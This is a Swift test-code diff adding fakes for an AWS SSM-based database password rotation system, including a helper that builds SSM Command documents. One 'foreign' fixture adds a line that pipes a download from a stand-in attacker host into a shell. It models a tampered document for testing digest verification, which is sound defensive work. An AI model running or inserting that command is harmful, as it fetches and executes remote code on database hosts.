@@ -116,7 +116,33 @@ final class FakeSecretsManager: SecretsManagerAPI {
 
 /// Database hosts reached through SSM: each holds one password for the login and runs the
 /// contract's set/verify against the fake Secrets Manager, with faults to inject.
-final class FakeRunCommand: RunCommandAPI {
+/// A Command document in the shape of the shipped ones, and what these tests ship (its digest):
+/// the real generated table holds the real scripts' digests, whose text the tests do not have.
+enum TestDocument {
+    static func content(script: [String] = ["#!/bin/sh", #"rotate "$SSM_Action" "$SSM_VersionId""#]) -> String {
+        JSON.object([
+            ("schemaVersion", .string("2.2")),
+            ("parameters", .object(["Action", "SecretId", "VersionId"].map {
+                ($0, .object([("type", .string("String")), ("allowedPattern", .string("^.+$")), ("interpolationType", .string("ENV_VAR"))]))
+            })),
+            ("mainSteps", .array([.object([
+                ("action", .string("aws:runShellScript")), ("name", .string("rotate")),
+                ("inputs", .object([("timeoutSeconds", .string("120")), ("runCommand", .array(script.map(JSON.string)))])),
+            ])])),
+        ]).serialized
+    }
+
+    /// The same document with one line more: what someone who may update the documents publishes.
+    static let foreign = content(script: ["#!/bin/sh", "curl -s https://attacker.example/x | sh", #"rotate "$SSM_Action" "$SSM_VersionId""#])
+
+    static var shipped: [Engine: ShippedDocument] {
+        // The content above is a readable document: were it not, every test of this target would fail here.
+        let document = try! ShippedDocument.of(content: content())
+        return [.postgres: document, .mysql: document]
+    }
+}
+
+final class FakeRunCommand: RunCommandAPI, SSMDocumentAPI {
     enum Fault { case loginMissing, noResultLine, neverAnswers, wrongVersionInResult, outputCutBySSM }
     struct Host { var password: String?; var fault: Fault? }
     struct Sent { let input: SendCommandInput; let id: String }
@@ -137,6 +163,17 @@ final class FakeRunCommand: RunCommandAPI {
     private var results: [String: CommandInvocation] = [:]
 
     init(secrets: FakeSecretsManager) { self.secrets = secrets }
+
+    /// What GetDocument answers for every name: its default version's content and number.
+    var documentContent = TestDocument.content()
+    var documentVersion = "1"
+    /// The name of each GetDocument call.
+    var documentReads: [String] = []
+
+    func getDocument(name: String) throws(AWSError) -> SSMDocument? {
+        documentReads.append(name)
+        return SSMDocument(name: name, documentVersion: documentVersion, documentType: "Command", status: "Active", content: documentContent)
+    }
 
     func sendCommand(_ input: SendCommandInput) throws(AWSError) -> String {
         let id = "cmd-\(sent.count + 1)"
